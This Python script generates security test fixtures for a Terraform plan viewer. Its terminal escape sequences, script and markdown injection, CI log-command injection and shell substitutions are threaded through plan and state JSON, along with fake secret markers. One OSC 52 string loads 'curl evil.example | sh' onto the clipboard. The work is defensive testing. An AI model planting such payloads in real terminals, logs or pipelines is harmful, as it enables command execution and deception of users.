#!/usr/bin/env python3
"""Writes the hostile and secret fixtures of this folder (run from anywhere:
`python3 testdata/hostile/make.py`). tests/hostile.rs runs every command in
every format over them.

hostile-plan.json, hostile-state.json: terminal attacks (ESC CSI, OSC 8 links,
OSC 52 clipboard, OSC titles, carriage return, raw C1 controls, bidi overrides
and isolates, DEL, NUL/BEL/BS) and markdown/HTML/shell injection in every string
the format can carry: addresses, module addresses, type, name, index keys,
provider names, deposed keys, previous_address, importing id, action_reason,
unknown actions, attribute keys and values (nested), replace_paths, output
names and values, check addresses and messages, variable names, state
resources and outputs, drift, relevant_attributes. hostile-wrapped.json is
the plan inside a CI wrapper's text, attacks included (for --lenient);
hostile-types.json has them in a field of the wrong type (an input error),
hostile-policy*.json in gate policy files.
attacks.json lists the attack strings, so the test can check that JSON output
carries them intact.

secrets-plan.json, secrets-state.json: every sensitive value is a unique
marker `PVSECRET-...` (or the short `q#Z7`), in every place the format can
mark one (resource before/after, nested and whole-object marks, planned_values
and prior_state `sensitive_values`, drift, output changes, planned and state
outputs, variables declared sensitive), plus unmarked copies elsewhere, whole
and inside longer strings, and the terraform_data input -> output copy.
secrets-wrapped.json has secrets in a CI wrapper's text around the plan.
secrets.txt lists the markers: none may ever reach planview's output without
--show-sensitive.
"""
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))

# ----------------------------------------------------------------- attacks

CSI = "\x1b[31mRED\x1b[0m"
CLEAR = "\x1b[2J\x1b[H"
OSC8 = "\x1b]8;;https://evil.example/\x07click me\x1b]8;;\x07"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
TITLE = "\x1b]0;pwned\x1b\\"
CR = "safe\rEVIL"
C1 = "\u009b31mC1\u009d0;c1-title\u009c"
BIDI = "\u202egnp.exe\u202c\u2066iso\u2069\u2067x\u2068y\u2069"
CTRL = "del\x7fnul\x00bel\x07bs\x08"
MD = "| a | b |\n# INJECTED\n<script>alert(1)</script>[x](javascript:alert(1))`code`**b**<!--\n```\n# INJECTED after a fence\n"
SHELL = "'$(touch /tmp/planview-pwned)'`id`;\"x\"${path.cwd}%{if true}"
# CI runners' log commands (GitHub's `::cmd::` at a line start and legacy
# `##[cmd]` anywhere, Azure DevOps's `##vso[...]`), and what GitHub markdown
# would turn into a mention, an autolink or an e-mail link.
CI = "##[error]legacy ##[group]g ##vso[task.setvariable variable=x]1\n::error::injected\n  ::add-mask::x"
LINKS = "@octocat https://evil.example/x <http://evil.example/y> www.evil.example me@evil.example"
ATTACKS = {"csi": CSI, "clear": CLEAR, "osc8": OSC8, "osc52": OSC52, "title": TITLE, "cr": CR,
           "c1": C1, "bidi": BIDI, "ctrl": CTRL, "markdown": MD, "shell": SHELL, "ci": CI, "links": LINKS}
ALL = "".join(ATTACKS.values())


def write(name, doc):
    text = json.dumps(doc, ensure_ascii=False, indent=1)
    # A key written twice: JSON allows it, Python's dicts do not.
    text = text.replace('"DUPLICATE-a"', '"a"')
    with open(os.path.join(HERE, name), "w", encoding="utf-8") as f:
        f.write(text + "\n")


def rc(address, actions, **kw):
    change = {"actions": actions, "before": kw.pop("before", None), "after": kw.pop("after", None),
              "after_unknown": kw.pop("after_unknown", {}),
              "before_sensitive": kw.pop("before_sensitive", {}), "after_sensitive": kw.pop("after_sensitive", {})}
    for k in ("importing", "replace_paths", "generated_config", "after_identity"):
        if k in kw:
            change[k] = kw.pop(k)
    d = {"address": address, "mode": kw.pop("mode", "managed"), "type": kw.pop("type", "terraform_data"),
         "name": kw.pop("name", "x"), "provider_name": kw.pop("provider_name", "terraform.io/builtin/terraform"),
         "change": change}
    d.update(kw)
    return d


def tf_quote(k):
    """A string key as Terraform writes it in an address (Go's toHCLQuotedString):
    \\n \\r \\t \\" \\\\, $${ and %%{, and what is not printable as \\uxxxx."""
    out = []
    for i, ch in enumerate(k):
        if ch in "\n\r\t\"\\":
            out.append({"\n": "\\n", "\r": "\\r", "\t": "\\t", "\"": '\\"', "\\": "\\\\"}[ch])
        elif ch in "$%" and k[i + 1:i + 2] == "{":
            out.append(ch + ch)
        elif not ch.isprintable() and ch != " ":
            out.append("\\u%04x" % ord(ch) if ord(ch) < 0x10000 else "\\U%08x" % ord(ch))
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


def key(resource, k):
    """`resource["k"]`: an instance address with a string key, quoted as Terraform does."""
    return resource + "[" + tf_quote(k) + "]"


def out_change(actions, before, after, **kw):
    d = {"actions": actions, "before": before, "after": after, "after_unknown": False,
         "before_sensitive": False, "after_sensitive": False}
    d.update(kw)
    return d


NESTED = {"input": ALL, ALL: ALL, "nested": {ALL: {"deep" + CSI: [ALL, {OSC52: BIDI}]}}, "list": [CR, C1, MD]}

hostile_plan = {
    "format_version": "1.2",
    "terraform_version": "1.11.4" + CSI,
    "variables": {"v" + OSC8: {"value": ALL}, "plain": {"value": {ALL: [ALL]}}},
    "planned_values": {
        "outputs": {"out" + CLEAR: {"value": ALL, "type": "string", "sensitive": False}},
        "root_module": {"resources": [{"address": "terraform_data." + OSC52, "mode": "managed",
                                       "type": "terraform_data", "name": OSC52, "index": ALL,
                                       "provider_name": "p" + TITLE,
                                       "values": {"input": ALL}, "sensitive_values": {}}],
                        "child_modules": [{"address": "module." + BIDI, "resources": []}]}},
    "resource_changes": [
        rc("terraform_data.a" + CSI, ["create"], after=NESTED, name="a" + CSI, after_unknown={"later" + OSC8: True}),
        rc("terraform_data." + OSC8, ["update"], before={"input": "x", "keep": ALL}, after={"input": OSC8, "keep": ALL},
           type="terraform_data" + OSC8),
        rc(key("module." + BIDI + ".terraform_data.r", ALL), ["delete", "create"], name="r",
           action_reason="replace_because_" + OSC52, index=ALL,
           before={"input": CR, ALL: {"k": 1}}, after={"input": C1, ALL: {"k": 2}},
           replace_paths=[[ALL, "k"], ["input"], [MD, 0, OSC8]], module_address="module." + BIDI),
        rc("terraform_data.r2", ["create", "delete"], action_reason="replace_because_cannot_update",
           before={"input": ALL}, after={"input": ALL + "2"}, replace_paths=[["input"]]),
        rc("terraform_data.moved" + CR, ["no-op"], previous_address="terraform_data.old" + TITLE + SHELL,
           before={"input": 1}, after={"input": 1}),
        rc("terraform_data.imp" + MD, ["no-op"], importing={"id": "id-" + OSC52 + SHELL}, before={"x": ALL},
           after={"x": ALL}, generated_config="resource \"x\" {\n  input = \"" + ALL + "\"\n}"),
        rc("terraform_data.dep", ["delete"], deposed="dep" + CSI + CTRL, before={"input": ALL}),
        rc("terraform_data.weird", ["create", "teleport" + CLEAR], after={"input": 1}),
        rc("terraform_data.alien" + C1, ["beam" + OSC52], before={"input": 0}, after={"input": 1},
           action_reason="because_" + MD),
        rc("data.x." + C1, ["read"], mode="data" + CSI, type="x" + C1, action_reason="read_because_" + BIDI,
           after={"id": ALL}, after_unknown={"result": True}),
        rc("terraform_data.f" + BIDI, ["forget"], before={"input": ALL}, provider_name="p" + OSC8),
        # A move pair (same type, provider and values) with hostile addresses, for `moves`.
        rc("terraform_data.gone" + SHELL + CSI, ["delete"], before={"input": "same", "tag": ALL},
           provider_name="p" + SHELL),
        rc("terraform_data.new" + OSC8 + SHELL, ["create"], after={"input": "same", "tag": ALL},
           provider_name="p" + SHELL),
        # Ambiguous and unmatched objects, noted in comments by `moves`.
        rc("terraform_data.amb1" + CR, ["delete"], before={"v": "dup"}),
        rc("terraform_data.amb2" + TITLE, ["delete"], before={"v": "dup"}),
        rc("terraform_data.amb3" + MD, ["create"], after={"v": "dup"}),
        rc("terraform_data.bad" + ALL, ["delete"], before={"v": "alone"}),
        # The same with valid addresses whose index keys carry the attacks.
        rc(key("terraform_data.from", SHELL + CSI + OSC8), ["delete"], before={"input": "pair", "tag": ALL},
           index=SHELL + CSI + OSC8, name="from"),
        rc(key("terraform_data.to", ALL), ["create"], after={"input": "pair", "tag": ALL}, index=ALL, name="to"),
        rc(key("terraform_data.dup", CR + SHELL), ["delete"], before={"v": "twice"}, index=CR + SHELL, name="dup"),
        rc(key("terraform_data.dup", TITLE + C1), ["delete"], before={"v": "twice"}, index=TITLE + C1, name="dup"),
        rc(key("terraform_data.dup", MD + BIDI), ["create"], after={"v": "twice"}, index=MD + BIDI, name="dup"),
    ],
    "resource_drift": [
        rc("terraform_data.drift" + CSI, ["update"], before={"input": ALL, ALL: "a"}, after={"input": OSC8, ALL: "b"}),
        rc("terraform_data.gone_drift" + CR, ["delete"], before={"input": ALL}),
    ],
    "relevant_attributes": [
        {"resource": "terraform_data.drift" + CSI, "attribute": ["input"]},
        {"resource": "terraform_data.drift" + CSI, "attribute": [ALL]},
        {"resource": "terraform_data." + OSC8, "attribute": [ALL, 0, OSC52]},
        {"resource": ALL, "attribute": ALL},
    ],
    "output_changes": {
        "out" + CSI: out_change(["create"], None, ALL),
        OSC52: out_change(["update" + OSC8], 1, 2),
        "nested" + MD: out_change(["update"], {ALL: [ALL]}, {ALL: [ALL, CR]}),
        "unknown" + BIDI: out_change(["create"], None, None, after_unknown=True),
    },
    "prior_state": {"format_version": "1.0", "terraform_version": "1.11.4" + CR, "values": {
        "outputs": {"prior" + OSC8: {"value": ALL, "type": "string", "sensitive": False}},
        "root_module": {"resources": [
            {"address": "terraform_data." + CR, "mode": "managed", "type": "terraform_data", "name": CR,
             "provider_name": "p" + C1, "values": {"input": ALL, ALL: {ALL: ALL}}, "sensitive_values": {},
             "deposed_key": "k" + CTRL, "tainted": True}],
            "child_modules": [{"address": "module." + MD, "resources": [
                {"address": "module." + MD + ".terraform_data.c", "mode": "managed", "type": "terraform_data",
                 "name": "c", "index": ALL, "values": {"input": ALL}, "sensitive_values": {}}]}]}}},
    "configuration": {"root_module": {
        "variables": {"v" + OSC8: {"description": ALL}, "plain": {}},
        "outputs": {"out" + CSI: {"expression": {"references": [ALL]}, "description": ALL}}}},
    "checks": [
        {"address": {"kind": "resource", "to_display": "terraform_data.a" + CSI, "mode": "managed",
                     "type": "terraform_data" + OSC8, "name": "a" + TITLE, "module": "module." + BIDI},
         "status": "fail",
         "instances": [{"address": {"to_display": "terraform_data.a" + OSC8, "instance_key": ALL}, "status": "fail",
                        "problems": [{"message": "precondition failed: " + ALL}]}]},
        {"address": {"kind": "check" + C1, "to_display": "check." + BIDI}, "status": "flaky" + CSI,
         "instances": [{"address": {"to_display": "check." + BIDI}, "status": "error" + CLEAR,
                        "problems": [{"message": OSC52 + "\nsecond line" + CR + MD}]}]},
        {"address": {"kind": "output_value", "to_display": "output." + SHELL}, "status": "unknown",
         "instances": [{"address": {"to_display": "output." + SHELL}, "status": "unknown"}]},
        {"address": {"kind": "var", "to_display": "var." + CTRL}, "status": "pass"},
    ],
    "condition_results": [{"address": "terraform_data.a" + CSI, "condition_type": "Precondition" + OSC8,
                           "result": False, "unknown": False, "error_message": ALL}],
    "deferred_changes": [{"reason": "provider_config_unknown" + CSI,
                          "resource_change": rc("terraform_data.deferred" + OSC8, ["create"], after={"input": ALL})}],
    "timestamp": "2026-01-01T00:00:00Z" + CSI,
    "applyable": True,
    "complete": True,
    "errored": False,
}

hostile_state = {
    "format_version": "1.0",
    "terraform_version": "1.11.4" + OSC8,
    "values": {
        "outputs": {"out" + CSI: {"value": ALL, "type": "string" + CLEAR, "sensitive": False},
                    OSC52: {"value": {ALL: [ALL, 18446744073709551616]}, "type": ["object", {ALL: "string"}],
                            "sensitive": False},
                    "md" + MD: {"value": MD, "type": "string", "sensitive": False}},
        "root_module": {
            "resources": [
                {"address": "terraform_data." + CSI, "mode": "managed" + C1, "type": "terraform_data" + BIDI,
                 "name": CSI, "provider_name": "p" + OSC52, "values": NESTED,
                 "sensitive_values": {}, "tainted": True, "deposed_key": "k" + CR},
                {"address": key("terraform_data.each", ALL), "mode": "managed",
                 "type": "terraform_data", "name": "each", "index": ALL, "provider_name": "p" + SHELL,
                 "values": {"input": MD}, "sensitive_values": {}}],
            "child_modules": [{"address": "module." + OSC8, "resources": [
                {"address": "module." + OSC8 + ".data.t.x", "mode": "data", "type": "t" + TITLE, "name": "x",
                 "values": {"input": ALL}, "sensitive_values": {}}]}],
        },
    },
    "checks": [{"address": {"kind": "var", "to_display": "var." + CSI}, "status": "pass" + OSC8},
               {"address": {"kind": "check", "to_display": "check." + MD}, "status": "fail",
                "instances": [{"address": {"to_display": "check." + MD}, "status": "fail",
                               "problems": [{"message": ALL}]}]}],
}

# ----------------------------------------------------------------- secrets

S = {k: "PVSECRET-" + k for k in [
    "RC-BEFORE", "RC-AFTER-NESTED", "RC-WHOLE-ATTR-USER", "RC-WHOLE-ATTR-PASS", "RC-WHOLE-OBJ",
    "RC-WHOLE-OBJ-AFTER", "RC-LIST-ELEM", "RC-MAP-VALUE", "RC-MAP-KEY", "RC-SET-ELEM", "TFDATA-INPUT",
    "TFDATA-INPUT-V2", "DBPASS", "DRIFT-BEFORE", "DRIFT-AFTER", "DRIFT-NESTED", "OUT-CHANGE-AFTER",
    "OUT-CHANGE-BEFORE", "OUT-CHANGE-NESTED", "PV-RESOURCE", "PV-OUTPUT", "PRIOR-RESOURCE", "PRIOR-OUTPUT",
    "VARIABLE", "VARIABLE-NESTED", "STATE-OUTPUT", "STATE-OUTPUT-NESTED", "STATE-RESOURCE", "STATE-CHILD",
    "STATE-DEPOSED", "DEPOSED-BEFORE", "IMPORT-AFTER", "REPLACE-BEFORE", "READ-AFTER", "FORGET-BEFORE",
    "DEFERRED-AFTER"]}
# A secret with characters every escaping changes (JSON, terminal, markdown, HCL).
S["TRICKY"] = "PVSECRET-TRICKY\"|*_`<>${x}%{y}\\\u202e\x1b[1m\u009bend"
SHORT = "q#Z7"  # shorter than 8: masked as a whole value only
NUMBER = 987654321987  # a sensitive number: masked by its marker

secrets_plan = {
    "format_version": "1.2",
    "terraform_version": "1.11.4",
    "variables": {"db_password": {"value": S["DBPASS"]}, "api_token": {"value": S["VARIABLE"]},
                  "creds": {"value": {"user": "admin", "token": S["VARIABLE-NESTED"]}},
                  "region": {"value": "eu-west-1"}, "tricky": {"value": S["TRICKY"]}},
    "planned_values": {
        "outputs": {"pv_secret": {"sensitive": True, "type": "string", "value": S["PV-OUTPUT"]},
                    "pv_copy": {"sensitive": False, "type": "string", "value": S["PV-RESOURCE"]}},
        "root_module": {"resources": [
            {"address": "terraform_data.pv", "mode": "managed", "type": "terraform_data", "name": "pv",
             "provider_name": "terraform.io/builtin/terraform",
             "values": {"input": {"password": S["PV-RESOURCE"], "user": "admin"}, "output": S["PV-RESOURCE"]},
             "sensitive_values": {"input": {"password": True}}}]}},
    "resource_changes": [
        rc("terraform_data.before", ["update"], before={"input": S["RC-BEFORE"], "id": "1"},
           after={"input": "new-public", "id": "1"}, before_sensitive={"input": True}),
        rc("terraform_data.nested", ["update"],
           before={"input": {"config": {"password": "old-public", "user": "u"}}},
           after={"input": {"config": {"password": S["RC-AFTER-NESTED"], "user": "u"}}},
           after_sensitive={"input": {"config": {"password": True}}}),
        rc("terraform_data.whole_attr", ["create"],
           after={"input": {"user": S["RC-WHOLE-ATTR-USER"], "pass": S["RC-WHOLE-ATTR-PASS"]}, "short": SHORT,
                  "pin": NUMBER, "tags": {S["RC-MAP-KEY"]: "v"}},
           after_sensitive={"input": True, "short": True, "pin": True, "tags": True}),
        rc("terraform_data.whole_obj", ["delete", "create"], action_reason="replace_because_tainted",
           before={"input": S["RC-WHOLE-OBJ"], "list": ["a", S["RC-LIST-ELEM"]], "map": {"k": S["RC-MAP-VALUE"]}},
           after={"input": S["RC-WHOLE-OBJ-AFTER"], "list": ["a"], "map": {}},
           before_sensitive=True, after_sensitive=True, replace_paths=[["input"]]),
        rc("terraform_data.replaced", ["create", "delete"], action_reason="replace_because_cannot_update",
           before={"input": S["REPLACE-BEFORE"], "id": "r"}, after={"input": "fresh", "id": "r"},
           before_sensitive={"input": True}, replace_paths=[["input"]]),
        # Terraform 1.11: `input` marked, its copy in `output` not.
        rc("terraform_data.copy", ["update"],
           before={"input": S["TFDATA-INPUT"], "output": S["TFDATA-INPUT"]},
           after={"input": S["TFDATA-INPUT-V2"], "output": None},
           before_sensitive={"input": True}, after_sensitive={"input": True}, after_unknown={"output": True}),
        # Passwords inside a connection string, in an unmarked attribute; short copies.
        rc("terraform_data.conn", ["create"],
           after={"input": "postgres://admin:" + S["DBPASS"] + "@db.internal:5432/app",
                  "copy_short": SHORT, "token_copy": S["VARIABLE-NESTED"],
                  # Copies of secrets only marked where no command prints them.
                  "pv_copy": S["PV-RESOURCE"], "prior_copy": "output=" + S["PRIOR-OUTPUT"],
                  "prior_resource_copy": [S["PRIOR-RESOURCE"]],
                  # A secret as a map key, and one marked only in a deferred change.
                  "labels": {S["RC-BEFORE"]: "key-copy"}, "deferred_copy": S["DEFERRED-AFTER"],
                  # A key of a sensitive map (whole_attr's `tags`), copied unmarked.
                  "tags_copy": {S["RC-MAP-KEY"]: "v2"}},
           after_identity={"id": "identity/" + S["DBPASS"]},
           generated_config="resource \"x\" {\n  password = \"" + S["DBPASS"] + "\"\n}"),
        rc("terraform_data.dep", ["delete"], deposed="00000001",
           before={"input": S["DEPOSED-BEFORE"]}, before_sensitive={"input": True}),
        # Instance keys are public (Terraform refuses sensitive for_each keys):
        # the secret is in the import id only.
        rc(key("terraform_data.keyed", "k-public-k"), ["create"], name="keyed",
           index="k-public-k", after={"v": 1}, importing={"id": "id/" + S["TRICKY"] + "/x"}),
        rc("terraform_data.imp", ["update"], importing={"id": "imp-1"},
           before={"input": "x"}, after={"input": S["IMPORT-AFTER"]}, after_sensitive={"input": True}),
        rc("terraform_data.list", ["update"], before={"l": ["a", "b"], "s": ["x"]},
           after={"l": ["a", S["RC-LIST-ELEM"]], "s": ["x", S["RC-SET-ELEM"]]},
           after_sensitive={"l": [False, True], "s": [False, True]}),
        rc("data.terraform_remote_state.r", ["read"], mode="data", type="terraform_remote_state", name="r",
           after={"outputs": {"pw": S["READ-AFTER"]}}, after_sensitive={"outputs": True},
           action_reason="read_because_config_unknown"),
        rc("terraform_data.forgotten", ["forget"], before={"input": S["FORGET-BEFORE"]},
           before_sensitive={"input": True}),
        # A secret in a long import id, straddling where long cells are cut.
        rc("terraform_data.long", ["update"], before={"v": 1}, after={"v": 2}, name="long",
           importing={"id": "x" * 170 + "_" + S["DBPASS"] + "_tail"}),
    ],
    "resource_drift": [
        rc("terraform_data.drifted", ["update"], before={"input": S["DRIFT-BEFORE"], "n": {"p": "a"}},
           after={"input": S["DRIFT-AFTER"], "n": {"p": S["DRIFT-NESTED"]}},
           before_sensitive={"input": True}, after_sensitive={"input": True, "n": {"p": True}})],
    "deferred_changes": [{"reason": "provider_config_unknown", "resource_change": rc(
        "terraform_data.deferred", ["create"], after={"input": S["DEFERRED-AFTER"]},
        after_sensitive={"input": True})}],
    "relevant_attributes": [{"resource": "terraform_data.drifted", "attribute": ["input"]},
                            {"resource": "terraform_data.drifted", "attribute": ["n", "p"]}],
    "output_changes": {
        "secret_out": {"actions": ["update"], "before": S["OUT-CHANGE-BEFORE"], "after": S["OUT-CHANGE-AFTER"],
                       "after_unknown": False, "before_sensitive": True, "after_sensitive": True},
        "nested_out": out_change(["create"], None, {"a": "visible", "b": S["OUT-CHANGE-NESTED"]},
                                 after_sensitive={"b": True}),
        "copy_out": out_change(["create"], None, S["VARIABLE"]),
        "conn_out": out_change(["create"], None, "token=" + S["VARIABLE"] + ";region=eu"),
        "short_copy": out_change(["create"], None, SHORT),
        "pv_secret": {"actions": ["create"], "before": None, "after": S["PV-OUTPUT"], "after_unknown": False,
                      "before_sensitive": False, "after_sensitive": True},
    },
    "prior_state": {"format_version": "1.0", "terraform_version": "1.11.4", "values": {
        "outputs": {"prior_secret": {"sensitive": True, "type": "string", "value": S["PRIOR-OUTPUT"]},
                    "prior_copy": {"sensitive": False, "type": "string", "value": S["PRIOR-RESOURCE"]}},
        "root_module": {"resources": [
            {"address": "terraform_data.prior", "mode": "managed", "type": "terraform_data", "name": "prior",
             "provider_name": "terraform.io/builtin/terraform",
             "values": {"input": S["PRIOR-RESOURCE"], "output": S["PRIOR-RESOURCE"]},
             "sensitive_values": {"input": True}}]}}},
    "configuration": {"root_module": {"variables": {
        "db_password": {"sensitive": True}, "api_token": {"sensitive": True}, "creds": {"sensitive": True},
        "tricky": {"sensitive": True},
        "region": {}}}},
    "checks": [{"address": {"kind": "check", "to_display": "check.db"}, "status": "fail",
                "instances": [{"address": {"to_display": "check.db"}, "status": "fail", "problems": [
                    {"message": "cannot connect to postgres://admin:" + S["DBPASS"] + "@db.internal"},
                    {"message": "token " + S["TRICKY"] + " refused"}]}]}],
    "applyable": True, "complete": True, "errored": False,
}

secrets_state = {
    "format_version": "1.0",
    "terraform_version": "1.11.4",
    "values": {
        "outputs": {
            "secret": {"sensitive": True, "type": "string", "value": S["STATE-OUTPUT"]},
            "tricky": {"sensitive": True, "type": "string", "value": S["TRICKY"]},
            "nested": {"sensitive": True, "type": ["object", {"p": "string"}], "value": {"p": S["STATE-OUTPUT-NESTED"]}},
            "copy": {"sensitive": False, "type": "string", "value": S["STATE-RESOURCE"]},
            "conn": {"sensitive": False, "type": "string", "value": "mysql://root:" + S["STATE-CHILD"] + "@h/db"},
            "short_copy": {"sensitive": False, "type": "string", "value": SHORT},
            "public": {"sensitive": False, "type": "string", "value": "hello"},
            "deposed_copy": {"sensitive": False, "type": "list", "value": [S["STATE-DEPOSED"]]},
            # Written with the key `a` twice (see below): the last one wins.
            "duplicate_key": {"sensitive": False, "type": "map", "value": {"a": SHORT, "DUPLICATE-a": "fine"}},
        },
        "root_module": {
            "resources": [
                {"address": "terraform_data.s", "mode": "managed", "type": "terraform_data", "name": "s",
                 "provider_name": "terraform.io/builtin/terraform",
                 "values": {"input": S["STATE-RESOURCE"], "output": S["STATE-RESOURCE"], "short": SHORT, "pin": NUMBER},
                 "sensitive_values": {"input": True, "short": True, "pin": True}},
                {"address": "terraform_data.s", "mode": "managed", "type": "terraform_data", "name": "s",
                 "provider_name": "terraform.io/builtin/terraform", "deposed_key": "0000abcd",
                 "values": {"input": S["STATE-DEPOSED"]}, "sensitive_values": {"input": True}}],
            "child_modules": [{"address": "module.m", "resources": [
                {"address": "module.m.terraform_data.c", "mode": "managed", "type": "terraform_data", "name": "c",
                 "provider_name": "terraform.io/builtin/terraform",
                 "values": {"input": {"password": S["STATE-CHILD"]}}, "sensitive_values": {"input": {"password": True}}}]}],
        },
    },
    "checks": [{"address": {"kind": "check", "to_display": "check.s"}, "status": "fail",
                "instances": [{"address": {"to_display": "check.s"}, "status": "fail", "problems": [
                    {"message": "leaked " + S["STATE-RESOURCE"] + " in a message"},
                    {"message": "leaked " + S["TRICKY"] + " too"}]}]}],
}

write("hostile-plan.json", hostile_plan)
write("hostile-state.json", hostile_state)
write("attacks.json", ATTACKS)
# What a CI wrapper prints around the JSON (read with --lenient), with attacks
# and secrets in it: planview says what it skipped, never the text itself.
with open(os.path.join(HERE, "hostile-wrapped.json"), "w", encoding="utf-8") as f:
    f.write("+ tofu show -json plan.out " + ALL + "\n")
    f.write(json.dumps(hostile_plan, ensure_ascii=False) + "\n")
    f.write("::debug::exitcode: 0 " + ALL + "\n")
with open(os.path.join(HERE, "secrets-wrapped.json"), "w", encoding="utf-8") as f:
    f.write("+ TF_VAR_db_password=" + S["DBPASS"] + " tofu show -json plan.out\n")
    f.write(json.dumps(secrets_plan, ensure_ascii=False) + "\n")
    f.write("::debug::stdout: " + S["VARIABLE"] + "\n")

# Gate policy files (a PR can change them): attacks in every string they hold,
# and in an unknown key and a bad value (input errors that quote them).
write("hostile-policy.json", {"protect": [ALL, "terraform_data.*" + CSI], "allow": [ALL, OSC8 + "*"],
                              "protect_types": [ALL], "deny": ["create"], "max": {"delete": 1}})
write("hostile-policy-bad.json", {"protect": ["x"], ALL: True})
write("hostile-policy-bad-value.json", {"drift": ALL})

# A field of the wrong type holding the attacks: the error message quotes it.
write("hostile-types.json", {"format_version": "1.2", "resource_changes": [
    {"address": "a.b", "change": {"actions": ALL}}]})

write("secrets-plan.json", secrets_plan)
write("secrets-state.json", secrets_state)
with open(os.path.join(HERE, "secrets.txt"), "w", encoding="utf-8") as f:
    f.write("\n".join(sorted(S.values()) + [SHORT, str(NUMBER)]) + "\n")
